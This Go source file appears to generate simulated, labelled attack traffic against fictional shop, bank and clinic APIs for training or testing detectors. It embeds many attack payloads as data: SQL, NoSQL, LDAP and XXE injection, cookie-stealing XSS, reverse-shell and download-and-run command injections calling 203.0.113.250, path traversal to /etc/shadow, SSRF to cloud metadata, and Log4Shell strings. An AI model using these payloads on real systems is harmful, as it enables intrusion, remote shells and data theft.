package sim

import (
	"net/url"
	"strconv"
	"time"
)

// ---- authentication ----

func (g *gen) attacksAuth() {
	victim := g.shop.users[len(g.shop.users)/2]
	g.attack(Scenario{Name: "login-brute-force", AlertType: "auth.brute_force", Subject: "client", ClientIPs: []string{doc(99)},
		Host: ShopHost, Method: "POST", PathTemplate: "/v1/auth/login",
		Description: "One address tries 450 passwords against one customer's e-mail in 25 minutes; the last one works."},
		38, 450, jitter(3300*time.Millisecond, 0.4), func(g *gen, s *script, now time.Time) {
			r := s.r
			rec := mk(r, now, srcShop, doc(99), "python-requests/2.31.0", "POST", shopURL("/v1/auth/login", nil))
			body(rec, "application/json", newObj().s("email", victim.p.Email).s("password", pick(r, []string{"password", "123456", "qwerty", "letmein", "Summer2026!", "iloveyou"})+strconv.Itoa(s.i)).String())
			if s.i == s.n-1 {
				replyJSON(rec, 200, newObj().s("user_id", strconv.Itoa(victim.id)).String(), latency(r, 90, 0.3))
				rec.Response.Headers["set-cookie"] = "sid=" + alnum(r, 32) + "; Path=/; Secure; HttpOnly"
			} else {
				problem(rec, 401, r)
			}
			s.emit(g, rec)
		})

	// Credential stuffing: 250 addresses, 1,600 usernames, 2 hours at night.
	pool := make([]string, 0, 250)
	for i := 0; i < 250; i++ {
		pool = append(pool, []string{"5.188.62.", "185.156.73.", "92.63.197.", "141.98.11.", "87.251.75."}[i%5]+strconv.Itoa(10+i/5*4))
	}
	g.attack(Scenario{Name: "bank-credential-stuffing", AlertType: "auth.credential_stuffing", Subject: "endpoint", ClientIPs: pool,
		Host: BankHost, Method: "POST", PathTemplate: "/v1/auth/login",
		Description: "A combo list of 1,600 e-mail/password pairs is replayed from 250 addresses over 2 hours at night (each address a handful of tries); 2 % succeed."},
		27, 1600, jitter(4500*time.Millisecond, 0.8), func(g *gen, s *script, now time.Time) {
			r := s.r
			ip := pool[r.IntN(len(pool))]
			user := alnum(r, 6) + strconv.Itoa(s.i) + "@" + pick(r, emailDomains)
			ok := chance(r, 0.02)
			if ok {
				user = g.bank.customers[s.i%len(g.bank.customers)].p.Email
			}
			rec := mk(r, now, srcBank, ip, pick(r, bankAppUAs), "POST", bankURL("/v1/auth/login", nil))
			body(rec, "application/json", newObj().s("username", user).s("password", alnum(r, 10)).String())
			if ok {
				c := g.bank.customers[s.i%len(g.bank.customers)]
				replyJSON(rec, 200, newObj().s("access_token", g.bankToken(r, c.sub, now, 15*time.Minute)).i("expires_in", 900).String(), latency(r, 180, 0.3))
			} else {
				problem(rec, 401, r)
			}
			s.emit(g, rec)
		})

	// Token reuse: a clinician's token replayed from 40 addresses in 30 minutes.
	cl := g.clinic.clinicians[4]
	far := []string{"41.190.", "102.89.", "177.54.", "186.33.", "200.71.", "201.150.", "103.77.", "116.202.", "36.94.", "190.15."}
	thieves := make([]string, 0, 40)
	for i := 0; i < 40; i++ {
		thieves = append(thieves, far[i%len(far)]+strconv.Itoa(10+i)+"."+strconv.Itoa(200-i))
	}
	g.attack(Scenario{Name: "stolen-clinician-token", AlertType: "auth.token_reuse", Subject: "identity", ClientIPs: thieves,
		Identity: cl.sub, Host: ClinicHost, Method: "GET", PathTemplate: "/v1/patients/{patientId}",
		Also:        []string{"bola.param_enumeration"},
		Description: "A clinician's bearer token, stolen from a workstation, is replayed from 40 addresses on several continents within 30 minutes."},
		31, 160, jitter(11*time.Second, 0.6), func(g *gen, s *script, now time.Time) {
			r := s.r
			if s.token == "" {
				s.token = mintJWT(r, "RS256", "ehr-idp-1", jwtClaims{Sub: cl.sub, Iss: "https://idp.clinic.example.test", Aud: "ehr-api",
					Iat: now.Add(-2 * time.Hour), Exp: now.Add(10 * time.Hour), Roles: cl.roles, Scope: "patient/*.read patient/*.write"})
			}
			p := g.clinic.patients[(s.i*97)%len(g.clinic.patients)]
			rec := mk(r, now, srcClinic, thieves[s.i%len(thieves)], browserUAs[s.i%len(browserUAs)], "GET", clinicURL("/v1/patients/"+p.mrn, nil))
			bearer(rec, s.token)
			replyJSON(rec, 200, patientJSON(p), latency(r, 45, 0.4))
			s.emit(g, rec)
		})

	// Weak tokens accepted: alg none, and an expired token.
	bv := g.bank.customers[7]
	g.attack(Scenario{Name: "alg-none-token-accepted", AlertType: "auth.weak_token_accepted", Subject: "client", ClientIPs: []string{doc(111)},
		Identity: bv.sub, Host: BankHost, Method: "GET", PathTemplate: "/v1/accounts/{accountId}",
		Description: "An attacker forges an unsigned token (alg: none) for a customer and the bank API answers 200."},
		23, 10, jitter(30*time.Second, 0.5), func(g *gen, s *script, now time.Time) {
			r := s.r
			a := bv.accounts[0]
			tok := mintJWT(r, "none", "", jwtClaims{Sub: bv.sub, Iss: "https://login.bank.example.test", Aud: "bank-api", Iat: now, Exp: now.Add(time.Hour), Roles: []string{"customer"}})
			path := "/v1/accounts/" + strconv.Itoa(a.id)
			if s.i%3 == 2 {
				path = "/v1/accounts"
			}
			rec := mk(r, now, srcBank, doc(111), "python-requests/2.31.0", "GET", bankURL(path, nil))
			bearer(rec, tok)
			replyJSON(rec, 200, accountJSON(a, bv), latency(r, 40, 0.4))
			s.emit(g, rec)
		})
	eu := g.shop.users[len(g.shop.users)/6]
	g.attack(Scenario{Name: "expired-token-accepted", AlertType: "auth.weak_token_accepted", Subject: "client", ClientIPs: []string{doc(117)},
		Identity: eu.sub, Host: ShopHost, Method: "GET", PathTemplate: "/v1/users/{userId}",
		Description: "A token that expired five days earlier (leaked in an old log) is replayed and the shop still answers 200."},
		40, 12, jitter(40*time.Second, 0.5), func(g *gen, s *script, now time.Time) {
			r := s.r
			if s.token == "" {
				iat := now.Add(-5*24*time.Hour - time.Hour)
				s.token = g.shopToken(r, eu.sub, iat, []string{"customer"}, time.Hour)
			}
			var rec *recT
			if s.i%2 == 0 {
				rec = mk(r, now, srcShop, doc(117), "curl/8.5.0", "GET", shopURL("/v1/users/"+strconv.Itoa(eu.id), nil))
				replyJSON(rec, 200, g.userJSON(eu, now), latency(r, 30, 0.4))
			} else {
				rec = mk(r, now, srcShop, doc(117), "curl/8.5.0", "GET", shopURL("/v1/orders", url.Values{"page": {"1"}, "limit": {"10"}}))
				replyJSON(rec, 200, `{"items":[],"page":1}`, latency(r, 45, 0.4))
			}
			bearer(rec, s.token)
			s.emit(g, rec)
		})
}

// ---- injection and SSRF ----

type injAttack struct {
	name, typ, desc string
	ip              int
	hour            float64
	host, method    string
	path            string // template for the label
	also            []string
	identity        func(g *gen) string // the principal whose token the attacker uses (label), if any
	payloads        []string
	build           func(g *gen, s *script, now time.Time, payload string) *recT
}

func (g *gen) attacksInjection() {
	shopUser := g.shop.users[len(g.shop.users)/9]
	shopAuth := func(g *gen, s *script, rec *recT, now time.Time) { bearer(rec, s.shopTok(g, shopUser.sub, now)) }
	searchOrCat := func(g *gen, s *script, now time.Time, p string) *recT {
		r := s.r
		var rec *recT
		if s.i%2 == 0 {
			rec = mk(r, now, srcShop, s.sc.ClientIPs[0], browserUAs[1], "GET", shopURL("/v1/search", url.Values{"q": {p}}))
		} else {
			rec = mk(r, now, srcShop, s.sc.ClientIPs[0], browserUAs[1], "GET", shopURL("/v1/products", url.Values{"category": {p}, "page": {"1"}, "limit": {"24"}}))
		}
		return rec
	}
	attacks := []injAttack{
		{name: "sqli-product-filters", typ: "injection.sqli", ip: 120, hour: 17, host: ShopHost, method: "GET", path: "/v1/search",
			desc: "Manual SQL injection in the search term and the category filter; two payloads make the database error leak.",
			payloads: []string{"' OR '1'='1", "lamp' UNION SELECT username,password_hash,NULL FROM users--", "1; DROP TABLE orders;--", "furniture' AND SLEEP(5)--",
				"' OR 1=1 LIMIT 1 OFFSET 2 -- -", "x' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- ", "') OR ('a'='a", "kitchen'/**/UnIoN/**/SeLeCt/**/1,2,3#",
				"1' ORDER BY 9--", "'; EXEC xp_cmdshell('whoami');--", "toys' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--", "\" OR \"\"=\""},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				rec := searchOrCat(g, s, now, p)
				if s.i%5 == 1 {
					replyJSON(rec, 500, `{"error":"internal","detail":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"}`, latency(s.r, 30, 0.3))
				} else {
					replyJSON(rec, 200, `{"items":[],"page":1,"total":0}`, latency(s.r, 60, 0.4))
				}
				return rec
			}},
		{name: "xss-in-reviews", typ: "injection.xss", ip: 121, hour: 25, host: ShopHost, method: "POST", path: "/v1/reviews",
			desc: "Stored XSS attempts in review texts and reflected XSS in search.",
			payloads: []string{"<script>fetch('https://203.0.113.250/c?'+document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
				"<svg/onload=eval(atob('YWxlcnQoMSk='))>", "\"><iframe src=javascript:alert(1)>", "<body onload=alert('xss')>", "javascript:alert(String.fromCharCode(88,83,83))",
				"<a href=\"javascript:alert(1)\">click</a>", "<details open ontoggle=prompt(1)>", "'-alert(1)-'", "<ScRiPt>alert(1)</sCrIpT>"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				if s.i%3 == 2 {
					rec := mk(r, now, srcShop, s.sc.ClientIPs[0], browserUAs[3], "GET", shopURL("/v1/search", url.Values{"q": {p}}))
					replyJSON(rec, 200, newObj().s("query", p).raw("results", "[]").String(), latency(r, 120, 0.4))
					return rec
				}
				rec := mk(r, now, srcShop, s.sc.ClientIPs[0], browserUAs[3], "POST", shopURL("/v1/reviews", nil))
				shopAuth(g, s, rec, now)
				body(rec, "application/json", newObj().s("sku", g.shop.products[s.i].sku).i("rating", 5).s("title", "Great").s("text", p).String())
				replyJSON(rec, 201, newObj().s("review_id", "rv_"+alnum(r, 10)).s("status", "published").String(), latency(r, 70, 0.4))
				return rec
			}},
		{name: "cmd-injection-transfer-reference", typ: "injection.cmd", ip: 122, hour: 32, host: BankHost, method: "POST", path: "/v1/transfers",
			desc: "OS command injection in the free-text transfer reference, which a legacy batch job passes to a shell.",
			payloads: []string{"; id", "| whoami", "`uname -a`", "$(curl -s http://203.0.113.250/x.sh | sh)", "; nc -e /bin/sh 203.0.113.250 4444",
				"|| sleep 15 ||", "; wget http://203.0.113.250/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b", "& ping -n 20 203.0.113.250 &", "\nid\n", "$(sleep 10)"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				c := g.bank.customers[len(g.bank.customers)/8]
				rec := mk(r, now, srcBank, s.sc.ClientIPs[0], c.ua, "POST", bankURL("/v1/transfers", nil))
				bearer(rec, s.bankTok(g, c.sub, now))
				body(rec, "application/json", newObj().i("from_account", int64(c.accounts[0].id)).s("to_iban", g.bank.payees[0]).s("to_name", "Test").f("amount", 1).s("currency", "EUR").s("reference", "Invoice 1"+p).String())
				replyJSON(rec, 201, newObj().s("transfer_id", "tr_"+alnum(r, 16)).s("status", "pending").String(), latency(r, 260, 0.35))
				return rec
			}},
		{name: "path-traversal-documents", typ: "injection.path_traversal", ip: 123, hour: 34, host: ClinicHost, method: "GET", path: "/v1/documents/download",
			desc: "Directory traversal in the document download's file parameter with a patient-portal token.",
			payloads: []string{"../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/hosts", "..\\..\\..\\windows\\win.ini",
				"lab/../../../../proc/self/environ", "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp/config/database.yml", "/var/www/../../etc/passwd%00.pdf", "..%252f..%252f..%252fetc%252fpasswd"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				pt := g.clinic.patients[9]
				rec := mk(r, now, srcClinic, s.sc.ClientIPs[0], "MyClinic/2.8.0 (Android 14)", "GET", "https://"+ClinicHost+"/v1/documents/download?file="+p)
				if s.token == "" {
					s.token = mintJWT(r, "RS256", "ehr-idp-1", jwtClaims{Sub: "pt-" + pt.mrn[3:], Iss: "https://idp.clinic.example.test", Aud: "ehr-portal", Iat: now, Exp: now.Add(30 * time.Minute), Roles: []string{"patient"}})
				}
				bearer(rec, s.token)
				if s.i == 0 {
					reply(rec, 200, "application/octet-stream", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", latency(r, 20, 0.3))
				} else {
					problem(rec, 400, r)
				}
				return rec
			}},
		{name: "nosql-login-bypass", typ: "injection.nosql", ip: 124, hour: 36, host: BankHost, method: "POST", path: "/v1/auth/login",
			desc: "MongoDB operator injection in the login body ($ne, $gt, $regex, $where).",
			also: []string{"param.anomalous_type", "auth.brute_force"},
			payloads: []string{`{"username":{"$ne":null},"password":{"$ne":null}}`, `{"username":"admin","password":{"$gt":""}}`, `{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}`,
				`{"username":{"$in":["admin","root","administrator"]},"password":{"$exists":true}}`, `{"username":"a","password":"x","$where":"sleep(5000) || true"}`,
				`{"username":{"$nin":[""]},"password":{"$ne":""}}`, `{"username":"admin'||'1'=='1","password":{"$ne":1}}`, `{"username":{"$gt":""},"password":{"$gt":""}}`},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				rec := mk(s.r, now, srcBank, s.sc.ClientIPs[0], "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "POST", bankURL("/v1/auth/login", nil))
				body(rec, "application/json", p)
				problem(rec, 401, s.r)
				return rec
			}},
		{name: "ssti-review-title", typ: "injection.ssti", ip: 125, hour: 39, host: ShopHost, method: "POST", path: "/v1/reviews",
			desc: "Server-side template injection probes in review titles (Jinja2, Twig, ERB, Freemarker, Spring EL).",
			also: []string{"injection.cmd", "injection.xss"},
			payloads: []string{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}",
				"{% debug %}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				rec := mk(r, now, srcShop, s.sc.ClientIPs[0], shopUser.ua, "POST", shopURL("/v1/reviews", nil))
				shopAuth(g, s, rec, now)
				body(rec, "application/json", newObj().s("sku", g.shop.products[s.i].sku).i("rating", 4).s("title", p).s("text", "nice").String())
				replyJSON(rec, 201, newObj().s("review_id", "rv_"+alnum(r, 10)).s("title", "49").String(), latency(r, 70, 0.4))
				return rec
			}},
		{name: "xxe-claims-import", typ: "injection.xxe", ip: 126, hour: 41, host: ClinicHost, method: "POST", path: "/v1/claims/import",
			desc: "XML external entity payloads sent to the claims import with a leaked partner API key.",
			also: []string{"injection.path_traversal", "ssrf.internal_target"},
			payloads: []string{
				`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ClaimBatch><Claim id="1"><Patient mrn="&xxe;"/></Claim></ClaimBatch>`,
				`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY % ext SYSTEM "http://203.0.113.250/evil.dtd"> %ext;]><ClaimBatch/>`,
				`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/">]><ClaimBatch><Note>&meta;</Note></ClaimBatch>`,
				`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><ClaimBatch>&lol2;</ClaimBatch>`,
				`<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://203.0.113.250/claims.dtd"><ClaimBatch/>`,
				`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><ClaimBatch>&xxe;</ClaimBatch>`},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				rec := mk(s.r, now, srcClinic, s.sc.ClientIPs[0], "python-requests/2.31.0", "POST", clinicURL("/v1/claims/import", nil))
				rec.Request.Headers["x-api-key"] = "ehr_partner_3c2b1a0f9e8d"
				body(rec, "application/xml", p)
				reply(rec, 400, "application/xml", `<ImportResult status="rejected" reason="schema"/>`, latency(s.r, 90, 0.4))
				return rec
			}},
		{name: "ldap-staff-directory", typ: "injection.ldap", ip: 0, hour: 42, host: ClinicHost, method: "GET", path: "/v1/staff/directory",
			desc: "LDAP filter injection in the staff directory search from a temporary staff workstation (10.50.7.201).",
			payloads: []string{"*)(uid=*))(|(uid=*", "*)(|(objectClass=*)", "admin)(&(password=*))", "*))%00", "*)(memberOf=cn=Domain Admins,ou=Groups,dc=clinic,dc=example,dc=test)",
				"x)(|(cn=*)(userPassword=*)", "*()|&'", "*)(&(objectCategory=person)(description=*"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				rec := mk(r, now, srcClinic, "10.50.7.201", clinicianUA, "GET", clinicURL("/v1/staff/directory", url.Values{"name": {p}}))
				if s.token == "" {
					s.token = mintJWT(r, "RS256", "ehr-idp-1", jwtClaims{Sub: "dr.tempstaff", Iss: "https://idp.clinic.example.test", Aud: "ehr-api", Iat: now, Exp: now.Add(12 * time.Hour), Roles: []string{"clinician"}})
				}
				bearer(rec, s.token)
				replyJSON(rec, 200, `{"items":[{"uid":"dr.alee3","name":"A. Lee"},{"uid":"rn.bkhan1","name":"B. Khan"}]}`, latency(r, 30, 0.4))
				return rec
			}},
		{name: "crlf-header-injection", typ: "injection.crlf", ip: 128, hour: 43, host: ShopHost, method: "GET", path: "/v1/search",
			desc: "CR/LF sequences in query values and a custom header to split responses and set cookies.",
			payloads: []string{"lamp\r\nSet-Cookie: sid=attacker", "x\r\nLocation: https://203.0.113.250/", "%0d%0aSet-Cookie:%20admin=1", "a\r\n\r\n<script>alert(1)</script>",
				"%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "q\nX-Forwarded-Host: evil.example.net"},
			also: []string{"injection.xss"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				rec := mk(r, now, srcShop, s.sc.ClientIPs[0], browserUAs[0], "GET", shopURL("/v1/search", url.Values{"q": {p}}))
				if s.i%3 == 1 {
					rec.Request.Headers["x-return-to"] = "/account" + p
				}
				replyJSON(rec, 200, `{"query":"","results":[]}`, latency(r, 110, 0.4))
				return rec
			}},
		{name: "ssrf-avatar-url", typ: "ssrf.internal_target", ip: 150, hour: 44, host: ShopHost, method: "POST", path: "/v1/users/{userId}/avatar",
			desc:     "The avatar import fetches any URL: the attacker points it at cloud metadata, loopback services, internal ranges and non-http schemes (with one customer's token: 24 avatar imports in a quarter of an hour).",
			also:     []string{"injection.path_traversal", "traffic.identity_spike"},
			identity: func(g *gen) string { return g.shop.users[len(g.shop.users)/11].sub },
			payloads: []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://localhost:8080/actuator/env",
				"http://[::1]:9200/_cat/indices", "http://10.0.0.5:2375/containers/json", "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd",
				"http://0x7f000001/admin", "http://2130706433/", "http://metadata.google.internal/computeMetadata/v1/", "http://192.168.0.1/", "dict://127.0.0.1:11211/stats"},
			build: func(g *gen, s *script, now time.Time, p string) *recT {
				r := s.r
				u := g.shop.users[len(g.shop.users)/11]
				rec := mk(r, now, srcShop, s.sc.ClientIPs[0], u.ua, "POST", shopURL("/v1/users/"+strconv.Itoa(u.id)+"/avatar", nil))
				bearer(rec, s.shopTok(g, u.sub, now))
				body(rec, "application/json", newObj().s("image_url", p).String())
				if s.i == 0 {
					replyJSON(rec, 200, `{"avatar":"processed","preview":"{\"Code\":\"Success\",\"AccessKeyId\":\"ASIA…\"}"}`, latency(r, 300, 0.4))
				} else {
					replyJSON(rec, 422, errJSON("bad_image", "could not decode image"), latency(r, 200, 0.5))
				}
				return rec
			}},
	}
	for _, a := range attacks {
		a := a
		ip := doc(a.ip)
		if a.ip == 0 {
			ip = "10.50.7.201"
		}
		sc := Scenario{Name: a.name, AlertType: a.typ, Subject: "client", ClientIPs: []string{ip}, Host: a.host, Method: a.method, PathTemplate: a.path,
			Also: a.also, Description: a.desc}
		if a.typ == "injection.ldap" {
			sc.Identity = "dr.tempstaff"
		}
		if a.identity != nil {
			sc.Identity = a.identity(g)
		}
		g.attack(sc, a.hour, len(a.payloads)*2, jitter(25*time.Second, 0.6), func(g *gen, s *script, now time.Time) {
			p := a.payloads[s.i%len(a.payloads)]
			s.emit(g, a.build(g, s, now, p))
		})
	}
}

// ---- threat intel ----

func (g *gen) attacksIntel() {
	tor := []string{"185.220.101.33", "185.220.101.34", "185.220.101.47", "185.220.102.8", "185.220.102.242", "199.249.230.87"}
	block := []string{"45.155.205.91", "45.155.205.233"}
	g.intel.Tor = append(append([]string(nil), tor...), "185.220.100.240", "185.220.100.241", "185.220.101.1", "109.70.100.2", "204.8.96.141", "2620:7:6003::141")
	g.intel.Blocklist = append(append([]string(nil), block...), "77.90.185.20", "80.94.95.81", "193.42.33.14", "141.98.10.0/24")
	g.attack(Scenario{Name: "tor-browsing", AlertType: "intel.tor_exit_node", Subject: "client", ClientIPs: tor, Host: ShopHost,
		Description: "Someone browses the shop and signs in through Tor (Tor Browser user agent), changing exit node every few minutes."},
		15, 60, jitter(50*time.Second, 0.6), func(g *gen, s *script, now time.Time) {
			r := s.r
			ip := tor[s.i/10]
			ua := "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0"
			var rec *recT
			switch s.i % 4 {
			case 0:
				rec = mk(r, now, srcShop, ip, ua, "GET", shopURL("/v1/products", url.Values{"category": {"electronics"}, "page": {"1"}, "limit": {"24"}}))
				replyJSON(rec, 200, `{"items":[],"page":1,"total":144}`, latency(r, 55, 0.45))
			case 1:
				p := g.shop.products[s.i]
				rec = mk(r, now, srcShop, ip, ua, "GET", shopURL("/v1/products/"+p.sku, nil))
				replyJSON(rec, 200, productJSON(p, true).String(), latency(r, 35, 0.4))
			case 2:
				rec = mk(r, now, srcShop, ip, ua, "GET", shopURL("/v1/search", url.Values{"q": {"gift card"}}))
				replyJSON(rec, 200, `{"query":"gift card","results":[]}`, latency(r, 140, 0.5))
			default:
				rec = mk(r, now, srcShop, ip, ua, "POST", shopURL("/v1/auth/login", nil))
				body(rec, "application/json", newObj().s("email", "anon"+strconv.Itoa(s.i)+"@"+emailDomains[1]).s("password", alnum(r, 12)).String())
				problem(rec, 401, r)
			}
			s.emit(g, rec)
		})
	g.attack(Scenario{Name: "blocklisted-address", AlertType: "intel.suspicious_ip", Subject: "client", ClientIPs: block, Host: BankHost,
		Description: "Two addresses listed on threat-intel blocklists probe the bank's public endpoints and login."},
		19, 40, jitter(40*time.Second, 0.6), func(g *gen, s *script, now time.Time) {
			r := s.r
			ip := block[s.i%2]
			var rec *recT
			if s.i%3 == 0 {
				rec = mk(r, now, srcBank, ip, browserUAs[0], "POST", bankURL("/v1/auth/login", nil))
				body(rec, "application/json", newObj().s("username", "test"+strconv.Itoa(s.i)+"@example.com").s("password", "Password1").String())
				problem(rec, 401, r)
			} else {
				rec = mk(r, now, srcBank, ip, browserUAs[0], "GET", bankURL("/v1/fx/rates", url.Values{"base": {"EUR"}}))
				replyJSON(rec, 200, `{"base":"EUR","rates":{"USD":1.0842}}`, latency(r, 15, 0.3))
			}
			s.emit(g, rec)
		})
	g.attack(Scenario{Name: "scanner-user-agent", AlertType: "intel.suspicious_user_agent", Subject: "client", ClientIPs: []string{doc(88)}, Host: ShopHost,
		Description: "A vulnerability scanner identifying itself (Nikto) checks known shop endpoints."},
		21, 25, jitter(6*time.Second, 0.5), func(g *gen, s *script, now time.Time) {
			r := s.r
			paths := []string{"/v1/products", "/v1/products/featured", "/v1/search", "/v1/cart", "/v1/orders"}
			rec := mk(r, now, srcShop, doc(88), "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00"+strconv.Itoa(1000+s.i)+")", "GET", shopURL(paths[s.i%len(paths)], nil))
			if paths[s.i%len(paths)] == "/v1/cart" || paths[s.i%len(paths)] == "/v1/orders" {
				problem(rec, 401, r)
			} else {
				replyJSON(rec, 200, `{"items":[]}`, latency(r, 40, 0.4))
			}
			s.emit(g, rec)
		})
	g.attack(Scenario{Name: "jndi-user-agent", AlertType: "intel.suspicious_user_agent", Subject: "client", ClientIPs: []string{doc(89)}, Host: BankHost,
		Also:        []string{"injection.ldap", "injection.cmd", "injection.ssti", "ssrf.internal_target", "intel.suspicious_ip"},
		Description: "Log4Shell probes: JNDI lookups in the User-Agent (plain and obfuscated)."},
		37, 8, jitter(20*time.Second, 0.5), func(g *gen, s *script, now time.Time) {
			r := s.r
			uas := []string{"${jndi:ldap://203.0.113.250:1389/Exploit}", "${${lower:j}ndi:${lower:r}mi://203.0.113.250/a}", "${jndi:dns://203.0.113.250/x}", "() { :; }; /bin/bash -c 'curl http://203.0.113.250/s'"}
			rec := mk(r, now, srcBank, doc(89), uas[s.i%len(uas)], "GET", bankURL("/v1/fx/rates", url.Values{"base": {"EUR"}}))
			replyJSON(rec, 200, `{"base":"EUR","rates":{"USD":1.0842}}`, latency(r, 15, 0.3))
			s.emit(g, rec)
		})
}

// ---- data exposure and unsafe consumption (release-driven) ----

func (g *gen) attacksData() {
	ep := func(name, method, path string) *scenState {
		return g.scenario(Scenario{Name: name, AlertType: "data.sensitive_exposure", Subject: "endpoint", Host: ShopHost, Method: method, PathTemplate: path,
			Description: "The 'pay later' release (hour 30.5) adds a financing block to the user profile: SSN, date of birth and the full card number, which the endpoint never returned before."})
	}
	g.exposureAt = g.at(30.5)
	g.scExposure = ep("pay-later-release-exposes-ssn", "GET", "/v1/users/{userId}")
	g.scExposurePatch = ep("pay-later-release-exposes-ssn-patch", "PATCH", "/v1/users/{userId}")

	g.geoPlainHTTPAt = g.at(35)
	g.scGeoHTTP = g.scenario(Scenario{Name: "geocoder-plain-http", AlertType: "consumption.unsafe_upstream", Subject: "endpoint", Host: GeoHost, Method: "GET", PathTemplate: "/v1/geocode",
		Description: "A configuration change makes our services call the geocoder over plain http, sending customer addresses and the API key unencrypted."})

	g.newDestAt = g.at(41)
	g.scNewDest = g.scenario(Scenario{Name: "pii-to-new-destination", AlertType: "consumption.unsafe_upstream", Subject: "endpoint", Host: AdHost, Method: "POST", PathTemplate: "/v1/events",
		Description: "A new marketing integration starts posting customers' e-mails, phone numbers and card numbers to a destination never contacted before."})
	r := g.stream("pii-to-new-destination")
	g.schedule(g.newDestAt, &every{period: 10 * time.Minute, jitter: time.Minute, r: r, fn: func(g *gen, now time.Time) {
		u := pick(r, g.shop.users)
		rec := outRec(r, now, "10.30.5.5", "mkt-export/1.3 python-requests/2.32.3", "POST", "https://"+AdHost+"/v1/events")
		rec.Request.Headers["authorization"] = "Bearer ad_2c9f7a1e4b8d3f6a0c5e9b2d7f1a4c8e"
		body(rec, "application/json", newObj().s("event", "purchase").s("email", u.p.Email).s("phone", u.p.Phone).s("card_number", u.p.Card).s("name", u.p.First+" "+u.p.Last).String())
		replyJSON(rec, 200, `{"ok":true}`, latency(r, 180, 0.3))
		g.emit(rec, g.scNewDest)
	}})

	g.catalogRedirectAt = g.at(45)
	g.scRedirect = g.scenario(Scenario{Name: "upstream-redirect-to-metadata", AlertType: "consumption.unsafe_upstream", Subject: "endpoint", Host: CatalogHost, Method: "GET", PathTemplate: "/v1/feed",
		Also:        []string{"ssrf.internal_target"},
		Description: "The partner catalogue feed answers 302 to the cloud metadata service and our importer follows the redirect (hourly from hour 45)."})
}
